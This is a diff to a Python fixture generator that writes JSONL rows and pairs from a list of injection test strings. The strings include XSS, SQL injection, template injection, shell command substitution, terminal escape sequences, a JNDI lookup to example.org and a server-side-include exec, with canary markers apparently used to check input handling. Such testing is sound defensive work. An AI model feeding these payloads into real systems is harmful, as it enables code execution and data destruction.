@@ -32,18 +32,19 @@ TEXTS = (
     "<img src=x onerror=alert(1)>", "<script>open('canary','w')</script>", "</td><x-canary>",
     '"; DROP TABLE runs; --', "{{7*7}}{% for x in ''.__class__.__mro__ %}{{x}}{% endfor %}",
     "[click](javascript:alert(1)) ![x](x-canary:1)", "$(touch canary) `touch canary`",
-    "\x1b]0;owned\x07\x1b[2Jgone", "${jndi:ldap://example.org/a}", "<!--#exec cmd='touch canary'-->",
+    "\x1b]0;owned\x07\x1b[2Jgone", "${jndi:ldap://example.org/a}",
+    "<!--#exec cmd='touch canary'-->",
 )  # fmt: skip
 
 
 def write_rows() -> None:
-    random = range(len(TEXTS) * 8)
-    with open("data/raw/rows.jsonl", "w", encoding="utf-8") as file:
-        for number in random:
+    numbers, raw = range(len(TEXTS) * 8), Path("data/raw")
+    with (raw / "rows.jsonl").open("w", encoding="utf-8") as file:
+        for number in numbers:
             row = {"text": f"{TEXTS[number % len(TEXTS)]} {number}", "label": LABELS[number % 3]}
             print(json.dumps(row), file=file)
-    with open("data/raw/pairs.jsonl", "w", encoding="utf-8") as file:
-        for number in random:
+    with (raw / "pairs.jsonl").open("w", encoding="utf-8") as file:
+        for number in numbers:
             text = f"{TEXTS[number % len(TEXTS)]} {number}"
             print(json.dumps({"source": text, "target": text.replace(" ", "_")}), file=file)
 
